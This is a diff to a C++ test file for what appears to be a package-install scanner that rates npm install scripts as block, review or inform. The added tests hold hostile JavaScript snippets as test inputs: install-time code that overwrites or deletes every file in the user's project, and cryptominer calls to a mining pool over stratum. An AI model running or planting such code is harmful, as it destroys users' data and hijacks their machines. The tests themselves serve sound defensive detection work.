@@ -46,6 +46,10 @@ TEST(Conjunctions, APhantomDependencyThatIsYoungAndRuns) {
   };
   EXPECT_EQ(tier(true), Tier::block);
   EXPECT_EQ(tier(false), Tier::inform);
+  added[0].flags = {FlagKind::shell_download, FlagKind::checks_digest, FlagKind::self_deletion};
+  const auto told =
+      conclude(host.peek(), {.previous = nullptr, .is_minor_step = true, .dependencies = added}).front().parts;
+  EXPECT_EQ(told.back(), "and which runs code at installation: shell_download, self_deletion");
   added[0].age_hours = 80;
   EXPECT_EQ(tier(true), Tier::review);
   added[0].age_hours.reset();
@@ -124,6 +128,33 @@ TEST(Conjunctions, WritingWhatAnAgentRuns) {
       R"({"name": "p", "version": "1.0.0", "keywords": ["git-hooks"], "scripts": {"postinstall": "node setup.js"}})");
   manager.add("setup.js", hooks);
   EXPECT_EQ(judged(manager, "inspect.writes-control-files"), Tier::inform);
+}
+
+TEST(Conjunctions, WritingOverWhatAListOfTheProjectGives) {
+  const std::string head = "const fs = require('fs'), path = require('path');\n";
+  const std::string list =
+      "function all(folder) { return fs.readdirSync(folder).map((name) => path.join(folder, name)); }\n";
+  const auto tier = [&](const std::string& code) {
+    return judged(installing(head + list + code), "inspect.overwrites-project");
+  };
+  EXPECT_EQ(tier("for (const file of all(process.env.INIT_CWD)) fs.writeFileSync(file, 'x');"), Tier::block);
+  EXPECT_EQ(tier("const { INIT_CWD } = process.env; all(INIT_CWD).forEach((file) => fs.unlinkSync(file));"),
+            Tier::block);
+  EXPECT_EQ(tier("for (const file of all(path.join(__dirname, 'dist'))) fs.writeFileSync(file, 'x');"), Tier::inform);
+  EXPECT_EQ(tier("for (const file of all(process.env.INIT_CWD)) fs.readFileSync(file);"), Tier::inform);
+  EXPECT_EQ(tier("fs.writeFileSync(path.join(process.env.INIT_CWD, 'worker.js'), 'x');"), Tier::inform);
+  EXPECT_EQ(tier("fs.readdir(process.env.INIT_CWD, (error, names) => names.forEach((each) => fs.rmSync(each)));"),
+            Tier::block);
+}
+
+TEST(Conjunctions, MinersAreKnownByWhatTheySayBesideWhatTheyDo) {
+  const auto tier = [](const std::string& code) { return judged(installing(code), "inspect.mines"); };
+  EXPECT_EQ(tier("require('net').connect(3333, h).write(JSON.stringify({ method: 'mining.subscribe' }));"),
+            Tier::block);
+  EXPECT_EQ(tier("require('child_process').spawn('./x', ['-o', 'stratum+tcp://pool.example.test:3333']);"),
+            Tier::block);
+  EXPECT_EQ(tier("const bad = ['xmrig']; console.log(bad);"), Tier::inform);
+  EXPECT_EQ(tier("require('net').connect(3333, h).write(JSON.stringify({ method: 'mine.subscribe' }));"), Tier::inform);
 }
 
 TEST(Conjunctions, ReplacingAWalletNeedsAllThree) {
